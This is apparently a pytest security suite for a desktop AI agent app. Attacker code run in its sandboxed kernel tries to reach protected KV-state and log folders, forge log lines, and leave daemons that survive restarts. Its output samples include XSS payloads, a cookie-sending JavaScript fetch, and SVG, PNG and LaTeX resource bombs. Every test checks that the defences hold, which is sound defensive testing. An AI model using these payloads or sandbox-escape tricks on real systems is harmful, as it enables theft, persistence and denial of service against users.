"""An attack run on the surfaces added last: saved model KV states, the app's log and
diagnostic report, stopping idle kernels and restarts, and the outputs the window draws and
the notebook export carries (SVG, LaTeX, HTML, JavaScript).

Each test tries the attack for real: model code in a real restricted kernel through the real
agent, real state files read by the real PromptCache (and real llama.cpp where the model is
there), the real log file, the real export, Qt's real SVG renderer and matplotlib's mathtext.
Each fails if the attack gets through."""

from __future__ import annotations

import json
import logging
import os
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import numpy as np
import psutil
import pytest

from codeact_desktop import app_log
from codeact_desktop.llm.prompt_cache import MAGIC, PromptCache, _key

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the layers tested here are Linux's")

SECRET = "OTHER-CONVERSATION-7d2e"


def _state_folder_with_a_secret(app_paths) -> tuple[Path, list[int]]:
    """A real saved state of "another conversation", as the app writes it."""
    folder = app_paths.kv_states
    tokens = [ord(c) for c in SECRET] * 8
    cache = PromptCache("model-x", ram_bytes=0, folder=folder, disk_bytes=1 << 20)
    cache.put(tokens, bytearray(SECRET.encode() * 64))
    cache.persist()
    return folder, tokens


# -- 1: saved model KV states ----------------------------------------------------------

def test_1_kernel_finds_reads_or_plants_no_saved_state_by_any_route(conversations, app_paths):
    """The attacker wants another conversation's tokens (they are in its KV state file), or to
    plant a state llama.cpp parses at the next switch: by the folder's path, by /proc/self/root,
    by climbing out of its home, by a link in its workspace, or by searching the whole tree."""
    folder, _ = _state_folder_with_a_secret(app_paths)
    before = sorted(p.name for p in folder.iterdir())
    a = conversations()
    home_up = os.path.relpath(folder, app_paths.kernel_home_for(a.workspace))
    observation = a.act(f"""
import os
folder = {str(folder)!r}
routes = [folder, '/proc/self/root' + folder, os.path.join(os.path.expanduser('~'), {home_up!r})]
os.symlink(folder, 'states-link')
routes.append(os.path.abspath('states-link'))
for route in routes:
    for attempt, do in (('list', lambda: os.listdir(route)),
                        ('plant', lambda: open(os.path.join(route, 'f' * 32 + '.kv'), 'wb').write({MAGIC!r} + b'x')),
                        ('open', lambda: os.close(os.open(route, os.O_PATH)))):
        try:
            do()
            print(attempt, route, 'REACHED')
        except OSError as e:
            print(attempt, 'refused', type(e).__name__)
found = []
for top, dirs, files in os.walk('/', onerror=lambda e: None):
    dirs[:] = [d for d in dirs if not (top == '/' and d in ('proc', 'sys', 'dev'))]
    for name in files:
        path = os.path.join(top, name)
        if name.endswith(('.kv', '.part')) or 'kv-states' in path:
            found.append(path)
print('FOUND', found)
""")
    assert "REACHED" not in observation and observation.count("refused") == 12, observation
    assert "FOUND []" in observation, observation
    assert sorted(p.name for p in folder.iterdir()) == before  # nothing planted
    again = PromptCache("model-x", ram_bytes=0, folder=folder, disk_bytes=1 << 20)
    assert len(again) == 1


def _one_state_file(folder: Path, tokens: list[int], payload: bytes, key: str = "m") -> Path:
    """One state written as the app writes it; its file."""
    cache = PromptCache(key, ram_bytes=0, folder=folder, disk_bytes=1 << 30)
    cache.put(tokens, bytearray(payload))
    cache.persist()
    return folder / f"{_key(np.asarray(tokens, dtype=np.int32)).hex()}.kv"


def test_1_a_state_file_cut_short_grown_or_lying_about_its_size_is_refused_and_not_counted(tmp_path):
    """A kill mid-copy, a disk error or a tool that appended to it: the attacker (or bad luck)
    wants llama.cpp to parse bytes that are not the state written, or a file the budget does
    not see. Each must be refused at the start (deleted), never handed over."""
    good = _one_state_file(tmp_path, [1, 2, 3], b"g" * 4096)
    short = _one_state_file(tmp_path, [4, 5, 6], b"s" * 4096)
    grown = _one_state_file(tmp_path, [7, 8, 9], b"r" * 4096)
    lying = _one_state_file(tmp_path, [10, 11, 12], b"l" * 4096)
    short.write_bytes(short.read_bytes()[:-100])
    grown.write_bytes(grown.read_bytes() + b"\0" * (50 << 20))  # 50 MB the header does not mention
    raw = lying.read_bytes()
    lying.write_bytes(raw.replace(b'"size": 4096', b'"size": 4000'))
    cache = PromptCache("m", ram_bytes=0, folder=tmp_path, disk_bytes=1 << 30)
    handed = {}
    for tokens in ([1, 2, 3], [4, 5, 6], [7, 8, 9], [10, 11, 12]):
        entry, n = cache.longest_prefix(tokens)
        handed[tokens[0]] = cache.state(entry) if entry is not None and n == 3 else None
    assert handed[1] == bytearray(b"g" * 4096)
    assert handed[4] is None and handed[7] is None and handed[10] is None, handed
    assert sorted(p.name for p in tmp_path.iterdir()) == [good.name]
    assert cache.disk_used < 1 << 20  # the 50 MB file is gone, not counted as 4 KB


def test_1_a_write_cut_short_by_a_full_disk_or_a_kill_leaves_nothing_that_holds_the_disk(tmp_path):
    """The disk budget is the user's promise: a spill that fails on a full disk, or an app
    killed mid-spill, must not leave a half-written state (hundreds of MB) in the folder for
    good. A full disk is a 1 MB file-size limit here; the kill is a real SIGKILL mid-write."""
    full = tmp_path / "full"
    script = textwrap.dedent(f"""
        import resource, signal
        from pathlib import Path
        from codeact_desktop.llm.prompt_cache import PromptCache
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # writes past the limit fail with EFBIG
        resource.setrlimit(resource.RLIMIT_FSIZE, (1 << 20, 1 << 20))
        cache = PromptCache("m", ram_bytes=0, folder=Path({str(full)!r}), disk_bytes=1 << 30)
        cache.put([1, 2, 3], bytearray(8 << 20))
        print("on disk", cache.disk_used)
    """)
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0 and "on disk 0" in done.stdout, done.stdout + done.stderr
    left = [(p.name, p.stat().st_size) for p in full.iterdir()]
    assert left == [], f"a failed write left {left}"

    killed = tmp_path / "killed"
    script = textwrap.dedent(f"""
        from pathlib import Path
        from codeact_desktop.llm.prompt_cache import PromptCache
        cache = PromptCache("m", ram_bytes=0, folder=Path({str(killed)!r}), disk_bytes=1 << 40)
        while True:
            cache.put([len(cache)], bytearray(256 << 20))
    """)
    proc = subprocess.Popen([sys.executable, "-c", script])
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not any(p.stat().st_size > 0 for p in killed.glob("*.part")):
        time.sleep(0.005)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    assert list(killed.glob("*.part")), "the kill did not land mid-write"
    later = time.time() - 3600
    for part in killed.glob("*.part"):
        os.utime(part, (later, later))  # the next start of the app, an hour later
    PromptCache("m", ram_bytes=0, folder=killed, disk_bytes=1 << 30)
    assert list(killed.glob("*.part")) == []


def test_1_the_disk_budget_holds_at_the_next_start_after_it_was_lowered(tmp_path):
    """The user lowers 'Conversations on disk' in Settings to get space back: the states
    already written must fit the new budget at the next start, not only once another spills."""
    for i in range(4):
        _one_state_file(tmp_path, [i, i, i], bytes([i]) * (1 << 20))
    cache = PromptCache("m", ram_bytes=0, folder=tmp_path, disk_bytes=(5 << 20) // 2)
    on_disk = sum(p.stat().st_size for p in tmp_path.iterdir())
    assert on_disk <= (5 << 20) // 2, f"{on_disk} bytes kept with a budget of {(5 << 20) // 2}"
    assert len(cache) == 2 and cache.longest_prefix([3, 3, 3])[1] == 3  # the newest are kept


@pytest.mark.model
def test_1_another_conversations_state_does_not_reach_this_reply(gguf_path, tmp_path):
    """Two conversations about the same dropped document: A goes on to a secret. When B comes
    back from A's saved state (the shared document), none of A's cells past that start may
    stay in the context for B's reply to attend to. Greedy text cannot tell (llama.cpp's own
    prefix reuse already changes a 270M model's greedy reply), so the context's state is
    weighed: A's cells left behind would make B's heavier than a fresh context reading B.
    (It is lighter: Gemma 3's sliding-window layers come back with fewer cells, see the report.)"""
    from codeact_desktop.llm.base import GenerationParams
    from codeact_desktop.llm.llama_inprocess import LlamaCppBackend
    from codeact_desktop.llm.prompt_cache import save_sequence

    document = " ".join(f"Row {i}: item {i * 7 % 31} weighs {i * 3 % 17} kg." for i in range(60))
    a = [{"role": "user", "content": f"{document}\nThe password is {SECRET}. " + "Say the password. " * 40}]
    b = [{"role": "user", "content": f"{document}\nWhat is the password? If you do not know, say so."}]
    other = [{"role": "user", "content": " ".join(f"Oslo weather day {i}: rain." for i in range(120))}]
    one = GenerationParams(max_tokens=1, temperature=0.0)

    def held(backend) -> tuple[int, int]:
        llm = backend._llm
        return backend._worker.submit(lambda: (llm.n_tokens, len(save_sequence(llm)))).result()

    cached = LlamaCppBackend(gguf_path, n_ctx=2048, kv_cache_ram=256 << 20, kv_cache_folder=tmp_path,
                             kv_cache_disk=256 << 20)
    try:
        cached.generate(a, GenerationParams(max_tokens=24, temperature=0.0), lambda piece: None)
        cached.generate(other, one, lambda piece: None)  # A's state goes into the cache
        via_a = cached.generate(b, one, lambda piece: None)
        via_a_holds = held(cached)
    finally:
        cached.close()
    assert via_a.prompt_tokens_evaluated < len(document) // 8, via_a  # really came back from A's state
    plain = LlamaCppBackend(gguf_path, n_ctx=2048)
    try:
        fresh = plain.generate(b, one, lambda piece: None)
        fresh_holds = held(plain)
    finally:
        plain.close()
    assert fresh.prompt_tokens_evaluated > len(document) // 8
    assert via_a_holds[0] == fresh_holds[0]
    assert via_a_holds[1] <= fresh_holds[1], f"(tokens, state bytes): via A's state {via_a_holds}, fresh {fresh_holds}"
    assert SECRET not in via_a.text


# -- 2: the app's log and the diagnostic report ------------------------------------------

FORGED = "2099-01-01 00:00:00,000 ERROR MainThread codeact_desktop: forged by the kernel"


def test_2_kernel_reads_writes_or_links_nothing_of_the_log_folder(conversations, app_paths):
    """The log is sent to whoever helps the user: the attacker wants to read what the app
    did (other conversations' failures, paths), or to write lines into it (forged entries, a
    link the next rotation writes through)."""
    assert app_log.setup(app_paths) is not None
    logging.getLogger("codeact_desktop.tests").warning("a line of the app's")
    folder = app_log.log_folder(app_paths)
    a = conversations()
    home_up = os.path.relpath(folder, app_paths.kernel_home_for(a.workspace))
    observation = a.act(f"""
import os
folder = {str(folder)!r}
for route in (folder, os.path.join(os.path.expanduser('~'), {home_up!r}), '/proc/self/root' + folder):
    for attempt, do in (('read', lambda: open(os.path.join(route, {app_log.LOG_FILE_NAME!r})).read()),
                        ('append', lambda: open(os.path.join(route, {app_log.LOG_FILE_NAME!r}), 'a').write({FORGED!r} + '\\n')),
                        ('plant', lambda: os.symlink('/tmp', os.path.join(route, {app_log.LOG_FILE_NAME + '.1'!r})))):
        try:
            do()
            print(attempt, 'REACHED')
        except OSError as e:
            print(attempt, 'refused', type(e).__name__)
""")
    assert "REACHED" not in observation and observation.count("refused") == 9, observation
    text = app_log.log_file(app_paths).read_text()
    assert FORGED not in text and "a line of the app's" in text
    assert not any(p.is_symlink() for p in folder.iterdir())


def test_2_hostile_text_from_code_outputs_files_deaths_and_replies_reaches_neither_log_nor_report(
        conversations, tmp_path):
    """The log promises no conversation text, no file names: the attacker puts its text
    (with a newline and a forged log line) everywhere the app might quote it: printed
    output, an exception, a produced file's name, a display the app cannot read, its own
    stderr before it kills the kernel, and a reply that fails mid-turn (a server's error
    body, a parse error quoting the reply). Then the user copies the diagnostic report."""
    from codeact_desktop.diagnostics import diagnostic_report
    from codeact_desktop.llm.base import BackendError
    from codeact_desktop.paths import AppPaths

    paths = AppPaths(data=tmp_path / "data", cache=tmp_path / "cache")
    assert app_log.setup(paths) is not None
    hostile = f"{SECRET}\n{FORGED}"
    a = conversations()
    a.act(f"""
import os, sys
from IPython.display import display
print({hostile!r}); print({hostile!r}, file=sys.stderr)
open({hostile!r}.replace('/', '_') + '.txt', 'w').write({hostile!r})
display({{'image/png': {hostile!r}, 'text/plain': {hostile!r}}}, raw=True)
display({{'text/html': '\\ud800' + {hostile!r}}}, raw=True)
raise OSError(2, {hostile!r}, {hostile!r})
""")
    a.act(f"import os\nos.write(2, {hostile.encode()!r})\nos.write(1, {hostile.encode()!r})\nos._exit(3)")
    assert a.last["status"] == "died"

    def fails(exc):
        def reply(messages):
            raise exc
        return reply

    for exc in (BackendError(f"The server refused the request (500): {hostile}"), ValueError(hostile),
                KeyError(hostile), UnicodeDecodeError("utf-8", hostile.encode(), 0, 1, hostile)):
        a.backend.replies.append(fails(exc))
        a.agent.send(f"go {hostile}")
    report = diagnostic_report(paths, backend=a.backend, kernel=a.kernel, log_lines=2000)
    log_text = app_log.log_file(paths).read_text()
    assert "a turn failed" in log_text  # the failures were logged, without their text
    for where, text in (("log", log_text), ("report", report)):
        assert SECRET not in text and "forged by the kernel" not in text, (where, text[-3000:])


# -- 3: idle kernels stopped, kernels restarted ------------------------------------------

def _leave_daemons(tag: str) -> str:
    """Model code: processes in new sessions that ignore SIGTERM and SIGHUP and beat into the
    workspace, and a kernel that ignores the app's request to shut down."""
    return f"""
import os, signal, subprocess
ip = get_ipython().kernel
for handlers in (ip.shell_handlers, ip.control_handlers):
    if 'shutdown_request' in handlers:
        handlers['shutdown_request'] = lambda *args, **kwargs: None
subprocess.Popen(['setsid', 'sh', '-c', "trap '' TERM HUP INT; while true; do date +%s%N > beat-setsid; sleep 0.05; done # {tag}"])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN); signal.signal(signal.SIGHUP, signal.SIG_IGN)
        os.execvp('sh', ['sh', '-c', "trap '' TERM HUP INT; while true; do date +%s%N > beat-fork; sleep 0.05; done # {tag}"])
    os._exit(0)
print('left')
"""


def _tagged(tag: str) -> list[int]:
    return [p.pid for p in psutil.process_iter(["cmdline"]) if tag in " ".join(p.info["cmdline"] or [])]


def _beats_stopped(workspace: Path) -> bool:
    beats = [workspace / "beat-setsid", workspace / "beat-fork"]
    before = [b.read_text() for b in beats]
    time.sleep(0.4)
    return [b.read_text() for b in beats] == before


def test_3_processes_left_by_code_end_with_a_restart_and_with_an_idle_stop(conversations):
    """The attacker wants a process that outlives its kernel: one that carries on after the
    restart (and can then reach the new kernel's files and sockets), or after the keep-alive
    rule stopped the conversation's kernel while the user looks at another one; its kernel
    ignores the shutdown request to win time. Another conversation must not see it either."""
    from codeact_desktop.kernel.keep_alive import KernelKeepAlive

    a, b = conversations(), conversations()
    tag = f"codeact-outlive-{os.getpid()}"
    assert "left" in a.act(_leave_daemons(tag))
    time.sleep(0.3)
    assert len(_tagged(tag)) >= 2
    seen = b.act(f"import os\nprint('SEEN' if any({tag!r} in open(f'/proc/{{p}}/cmdline').read()"
                 f" for p in os.listdir('/proc') if p.isdigit()) else 'unseen')")
    assert "unseen" in seen, seen
    old_pid = a.kernel.pid
    a.kernel.restart()
    time.sleep(0.3)
    assert _tagged(tag) == [] and _beats_stopped(a.workspace), "a process outlived the restart"
    probe = a.act(f"import os\nprint(sorted(p for p in os.listdir('/proc') if p.isdigit()))\n"
                  f"print('SEEN' if any({tag!r} in open(f'/proc/{{p}}/cmdline').read() for p in os.listdir('/proc')"
                  f" if p.isdigit()) else 'unseen')")
    assert "unseen" in probe and a.kernel.pid != old_pid, probe

    # The keep-alive rule: the user went on to b; a, idle, is the one to stop.
    assert "left" in a.act(_leave_daemons(tag))
    time.sleep(0.3)
    keep = KernelKeepAlive(keep=1, idle_s=3600)
    keep.used(a.conversation.id)
    keep.used(b.conversation.id)
    assert keep.to_stop(current=b.conversation.id) == [a.conversation.id]
    started = time.monotonic()
    a.kernel.shutdown()  # what the window's stop of an unused kernel runs
    assert time.monotonic() - started < 20
    time.sleep(0.3)
    assert _tagged(tag) == [] and _beats_stopped(a.workspace), "a process outlived the idle stop"
    assert b.act("print('b is fine')").endswith("b is fine\n")


# -- 4: outputs drawn, shown and exported ------------------------------------------------

HOSTILE_BUNDLES = [
    {"application/javascript": "document.title = 'pwned'; fetch('http://127.0.0.1:9/' + document.cookie)",
     "text/plain": "<IPython.core.display.Javascript object>"},
    {"text/markdown": "<img src=x onerror=alert(1)> [open](javascript:alert(2)) ![p](http://127.0.0.1:9/p.png)",
     "text/plain": "md"},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "evil", "version_major": 2, "version_minor": 0},
     "application/vnd.bokehjs_exec.v0+json": "", "text/html": "<script>alert(3)</script><b>kept</b>",
     "text/plain": "widget"},
    {"text/latex": r"$\href{javascript:alert(4)}{click\ me}$", "text/plain": "latex"},
]


def _live_markup(html: str) -> list:
    """What in rendered HTML would run or load: a script, a handler, an image, a link that is
    not http(s)."""
    from html.parser import HTMLParser

    found = []

    class Audit(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if tag in ("script", "img", "iframe", "object", "embed"):
                found.append(tag)
            for name, value in attrs:
                if name.startswith("on") or (name == "href" and not (value or "").startswith(("http", "#", "mailto:"))):
                    found.append(f"{name}={value}")

    Audit().feed(html)
    return found


def test_4_the_exported_notebook_carries_nothing_a_viewer_would_run(conversations, tmp_path):
    """The attacker's outputs wait in the history for the user to export the conversation as
    a notebook and open it: VS Code runs an ``application/javascript`` output, nbconvert's HTML
    puts it in a ``<script>``; widget and Bokeh types make their extensions run code; a
    ``text/markdown`` output is rendered with its raw HTML; MathJax follows ``\\href`` links.
    The export must carry none of these as they came (and must not be signed as trusted)."""
    import markdown as python_markdown
    import nbformat

    a = conversations()
    a.act("from IPython.display import display, Javascript\n"
          f"for bundle in {HOSTILE_BUNDLES!r}:\n    display(bundle, raw=True)\n"
          "display(Javascript('alert(5)'))")
    target = tmp_path / "chat.ipynb"
    from codeact_desktop.export import export_conversation

    export_conversation(a.conversation, target)
    notebook = nbformat.read(str(target), as_version=4)
    assert "signature" not in notebook.metadata
    outputs = [o for c in notebook.cells if c.cell_type == "code" for o in c.outputs]
    assert outputs, "nothing exported"
    problems = []
    for output in outputs:
        for mime, value in output.get("data", {}).items():
            text = value if isinstance(value, str) else json.dumps(value)
            if mime == "application/javascript" or mime.startswith("application/vnd."):
                problems.append(f"{mime} carried")
            elif mime == "text/markdown" and _live_markup(python_markdown.markdown(text)):
                problems.append(f"markdown renders live: {_live_markup(python_markdown.markdown(text))}")
            elif mime == "text/html" and ("<script" in text or "alert" in text):
                problems.append(f"html kept its script: {text}")
            elif mime == "text/latex" and "javascript:" in text:
                problems.append(f"latex link kept: {text}")
    assert problems == [], problems
    assert any("kept" in o.get("data", {}).get("text/html", "") for o in outputs)  # the harmless rest stays


def _stored_items(conversation):
    from codeact_desktop.agent.timeline import timeline
    from codeact_desktop.kernel.outputs import item_from_stored

    return [item_from_stored(o.kind, o.text, o.image, o.meta)
            for e in timeline(conversation) if e.type == "action" for o in e.outputs]


def _use_bomb(levels: int, fan: int = 10) -> str:
    """An SVG whose ``<use>`` elements, nested ``levels`` deep, ``fan`` a level, draw
    fan**levels circles: no entity, no outside reference, a few KB."""
    groups = ['<g id="l0"><circle cx="5" cy="5" r="3" fill="red"/></g>']
    for i in range(1, levels + 1):
        groups.append(f'<g id="l{i}">' + "".join(f'<use xlink:href="#l{i - 1}" x="{j % 4}" y="{j // 4}"/>'
                                                for j in range(fan)) + "</g>")
    return ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200"'
            f' height="200"><defs>{"".join(groups)}</defs><use xlink:href="#l{levels}"/></svg>')


def test_4_an_svg_of_nested_uses_does_not_freeze_the_window(conversations, qtbot):
    """Billion laughs without an entity: the cleaning refuses ``<!ENTITY``, but keeps
    ``<use href="#...">`` (it stays inside the image). 2.7 KB of nested uses draw 10^7 circles:
    the attacker wants the window's UI thread drawing for minutes each time the conversation
    is opened. It must come back at once, the text twin shown instead."""
    from codeact_desktop.ui.output_views import ImageView, output_view
    from codeact_desktop.ui.svg_image import svg_renderer

    a = conversations()
    a.act(f"from IPython.display import SVG, display\ndisplay(SVG({_use_bomb(7)!r}))")
    # Refused when it arrives (untrusted_markup.clean_svg counts what drawing it takes), so
    # neither the window nor an HTML or Markdown export ever draws it.
    assert not [i for i in _stored_items(a.conversation) if i is not None and i.mime == "image/svg+xml"]
    # One stored before that check came in is counted where it is drawn.
    started = time.monotonic()
    assert svg_renderer(_use_bomb(7).encode(), cleaned=True) is None
    took = time.monotonic() - started
    assert took < 5, f"the UI thread drew for {took:.1f} s"
    # A real plot still draws
    plot = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="50">'
            '<defs><circle id="m" r="1"/></defs>' + "".join(f'<use xlink:href="#m" x="{i}" y="{i % 50}"/>' for i in range(100))
            + "</svg>")
    a.act(f"from IPython.display import SVG, display\ndisplay(SVG({plot!r}))")
    last = [i for i in _stored_items(a.conversation) if i is not None and i.mime == "image/svg+xml"][-1]
    drawn = output_view(last)
    qtbot.addWidget(drawn)
    assert isinstance(drawn, ImageView)


_BLANK_PNG = """
import struct, zlib
from IPython.display import Image, display
def blank_png(w, h):
    # All zeros: a few hundred KB that claim w x h pixels
    rows = zlib.compress(bytes((w * 3 + 1) * h), 9)
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", rows) + chunk(b"IEND", b""))
"""


def test_4_images_that_claim_huge_sizes_cost_the_window_neither_memory_nor_seconds(conversations, qtbot):
    """A PNG of zeros is tiny on the wire and in the history, but the window decodes it at
    the size its header claims: 180 KB for 8,000 x 8,000 pixels took 256 MB and 0.8 s of
    the UI thread, kept for as long as the conversation is open and again at every opening;
    a hundred of them (the display cap) 25 GB. One image is refused past 25 million pixels,
    one run's images past 64 million together, each with a note the model reads too."""
    from codeact_desktop.kernel.outputs import image_pixels
    from codeact_desktop.ui.output_views import output_view

    a = conversations()
    seen = a.act(_BLANK_PNG + "for _ in range(3):\n    display(Image(blank_png(8000, 8000)))\n"
                 "for _ in range(6):\n    display(Image(blank_png(3000, 4000)))")
    assert "8,000 × 8,000 pixels was not shown" in seen and "1 more images were not kept" in seen, seen
    items = [i for i in _stored_items(a.conversation) if i is not None]
    assert sum(image_pixels(i) for i in items) <= 64_000_000
    assert len([i for i in items if i.kind == "image"]) == 5  # 12 million pixels each: 5 fit
    started = time.monotonic()
    for item in items:
        qtbot.addWidget(output_view(item))
    assert time.monotonic() - started < 5
    # A plot of an ordinary size is shown as before
    a.act(_BLANK_PNG + "display(Image(blank_png(1600, 1200)))")
    assert [i for i in _stored_items(a.conversation) if i is not None and i.kind == "image"][-1].data


def test_4_latex_that_asks_for_a_giant_drawing_costs_neither_memory_nor_minutes(conversations, tmp_path):
    """``text/latex`` is drawn by mathtext in the app's own process (the window, the HTML
    export): the attacker sends 1.8 KB whose ``\\hspace{4000}`` and 600 stacked rows lay out to
    59539 x 6167 pixels (1.5 GB and 25 s; a bigger one asks more than the RAM and the app is
    killed, at every opening of the conversation). The window's MathView, offscreen in a
    process of its own to measure it, must give up quickly, with little memory, its text shown."""
    latex = r"$\substack{\hspace{4000}x" + r"\\x" * 600 + "}$"
    a = conversations()
    a.act(f"from IPython.display import display\ndisplay({{'text/latex': {latex!r}, 'text/plain': 'giant'}}, raw=True)")
    (item,) = [i for i in _stored_items(a.conversation) if i is not None and i.mime == "text/latex"]
    assert item.text == latex
    probe = tmp_path / "latex.txt"
    probe.write_text(item.text)
    script = textwrap.dedent(f"""
        import os, resource, time
        os.environ["QT_QPA_PLATFORM"] = "offscreen"
        from pathlib import Path
        from PySide6.QtWidgets import QApplication
        app = QApplication([])
        from codeact_desktop.ui.math_view import MathView
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        started = time.monotonic()
        view = MathView(Path({str(probe)!r}).read_text(), "giant")
        while view.drawn is None and time.monotonic() - started < 120:
            app.processEvents()
            time.sleep(0.01)
        grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024
        print("drawn", view.drawn, "seconds", round(time.monotonic() - started, 1), "MB", grown, "text", view.text())
    """)
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=180)
    assert done.returncode == 0, done.stderr[-2000:]
    words = done.stdout.split()
    seconds, grown = float(words[words.index("seconds") + 1]), int(words[words.index("MB") + 1])
    assert "drawn False" in done.stdout and "text giant" in done.stdout, done.stdout
    assert grown < 300 and seconds < 15, done.stdout


def test_4_a_run_of_thousands_of_switching_outputs_opens_as_a_few_hundred(conversations, qtbot):
    """Each output is a widget in the window. Code that switched between stdout and stderr
    15,000 times made 21,354 outputs (78 s and 1.2 GB to open the conversation), and 3,000
    ``error`` messages sent on IOPub 1,993 error views. One run keeps 200 outputs; past them
    the streams are joined in order and other outputs counted; the last error still reaches
    the model, which must read it to fix its code."""
    a = conversations()
    seen = a.act(textwrap.dedent("""
        import sys
        for i in range(15000):
            (sys.stdout if i % 2 else sys.stderr).write(f"{i}\\n"); (sys.stdout if i % 2 else sys.stderr).flush()
        k = get_ipython().kernel
        for i in range(3000):
            k.session.send(k.iopub_socket, "error", {"ename": "Flood", "evalue": str(i), "traceback": ["flood"]},
                           parent=k.get_parent("shell"))
        print("last line")
        raise ValueError("the real mistake")
    """))
    outputs = a.conversation.outputs(a.last["id"])
    assert len(outputs) <= 200 + 3, len(outputs)  # the joined stream, the last error, the note
    assert a.last["status"] == "error" and "the real mistake" in seen, seen[-2000:]
    assert "more than 200 outputs" in seen and "more errors and displays were not kept" in seen, seen[-2000:]
    assert "last line" in seen and "14999" in seen  # stream text past the cap is kept, in order
    _assert_opens_within(a.conversation, qtbot, 10)


def test_4_json_outputs_huge_or_deep_neither_freeze_the_window_nor_fail_the_turn(conversations, qtbot):
    """``application/json`` is validated by nbformat and written out as text at every
    opening: 600,000 objects took 7.9 s of the UI thread; nested 900 deep it overflowed
    nbformat's validator and the turn failed. Past 100,000 values or 64 levels the JSON
    is left out and the text twin shown; the same for metadata."""
    a = conversations()
    seen = a.act(textwrap.dedent("""
        from IPython.display import display
        huge = [{"i": i} for i in range(600000)]
        deep = []
        for _ in range(900):
            deep = [deep]
        display({"application/json": huge, "text/plain": "HUGE-TWIN"}, raw=True)
        display({"application/json": deep, "text/plain": "DEEP-TWIN"}, raw=True)
        display({"text/plain": "DEEP-META"}, metadata={"x": deep}, raw=True)
        display({"application/json": {"a": [1, 2, {"b": None}]}, "text/plain": "small"}, raw=True)
    """))
    assert a.last["status"] == "ok", seen[-2000:]
    for twin in ("HUGE-TWIN", "DEEP-TWIN", "DEEP-META"):
        assert twin in seen, seen[-2000:]
    items = [i for i in _stored_items(a.conversation) if i is not None]
    assert [i.mime for i in items].count("application/json") == 1  # the small one is shown as JSON
    _assert_opens_within(a.conversation, qtbot, 3)


def test_4_many_rich_outputs_just_under_the_bound_cost_the_window_seconds_not_minutes(conversations, qtbot):
    """Each table is laid out by Qt on the UI thread at every opening, about a second at
    the largest one kept as a table: a run of 100 of them would be 100 s. One run's rich
    outputs are laid out within three such seconds; past them, and past the bound for one,
    each is shown as its text twin (the model reads the same)."""
    a = conversations()
    seen = a.act(textwrap.dedent("""
        from IPython.display import HTML, Markdown, display
        table = "<table>" + "<tr><td>1</td><td>2</td><td>3</td></tr>" * 900 + "</table>"
        for i in range(40):
            display({"text/html": table, "text/plain": f"TWIN-{i}"}, raw=True)
        display(HTML("<table>" + "<tr><td>r</td></tr>" * 50000 + "</table>"))
        display(Markdown("| a | b |\\n|---|---|\\n" + "| x | 1 |\\n" * 20000))
    """))
    assert a.last["status"] == "ok", seen[-2000:]
    items = [i for i in _stored_items(a.conversation) if i is not None]
    assert len([i for i in items if i.mime == "text/html"]) == 3, [i.mime for i in items]
    assert "TWIN-3" in seen and "TWIN-39" in seen
    assert items[-2].mime == "text/plain" and "r\nr\n" in items[-2].text  # no twin: its text
    assert items[-1].mime == "text/plain" and "| x | 1 |" in items[-1].text
    _assert_opens_within(a.conversation, qtbot, 8)


def _assert_opens_within(conversation, qtbot, seconds: float) -> None:
    """Opens the conversation in a real chat view, drawn, as the window does at every start."""
    from codeact_desktop.ui.chat_view import ChatView

    chat = ChatView()
    qtbot.addWidget(chat)
    chat.resize(900, 700)
    chat.show()
    started = time.monotonic()
    chat.show_conversation(conversation)
    chat.grab()
    took = time.monotonic() - started
    assert took < seconds, f"opening took {took:.1f} s"


def test_4_images_inside_html_are_counted_per_run(conversations, qtbot):
    """A second independent run: images inside an HTML output were counted for that output
    only (64 million pixels each), and Qt's rich text keeps them decoded at their own size:
    10 such outputs opened in 11.4 s and took 2.4 GB. One run's inline images may claim 8
    million pixels together; past them an output is shown as its text twin."""
    import gc

    a = conversations()
    seen = a.act(_BLANK_PNG + textwrap.dedent("""
        import base64
        def inline(w, h):
            return '<img src="data:image/png;base64,' + base64.b64encode(blank_png(w, h)).decode() + '" width="10">'
        display({"text/html": "<p>small</p>" + inline(200, 100), "text/plain": "SMALL"}, raw=True)
        for i in range(4):
            display({"text/html": inline(3000, 3000 - i) * 3, "text/plain": f"BIG-{i}"}, raw=True)
    """))
    assert a.last["status"] == "ok", seen[-2000:]
    items = [i for i in _stored_items(a.conversation) if i is not None]
    assert [i.mime for i in items] == ["text/html"] + ["text/plain"] * 4, [i.mime for i in items]
    assert "BIG-3" in seen
    process = psutil.Process()
    gc.collect()
    before = process.memory_info().rss
    _assert_opens_within(a.conversation, qtbot, 5)
    assert (process.memory_info().rss - before) >> 20 < 200
